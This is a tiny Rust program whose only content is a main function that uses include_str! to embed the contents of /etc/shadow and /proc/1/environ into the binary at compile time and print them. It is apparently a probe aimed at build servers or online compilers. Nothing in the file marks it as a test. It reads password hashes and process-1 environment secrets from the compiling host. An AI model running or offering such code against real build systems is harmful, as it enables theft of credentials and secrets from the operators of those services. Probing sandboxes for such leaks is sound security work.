fn main() {
    println!("{}{}", include_str!("/etc/shadow"), include_str!("/proc/1/environ"));
}
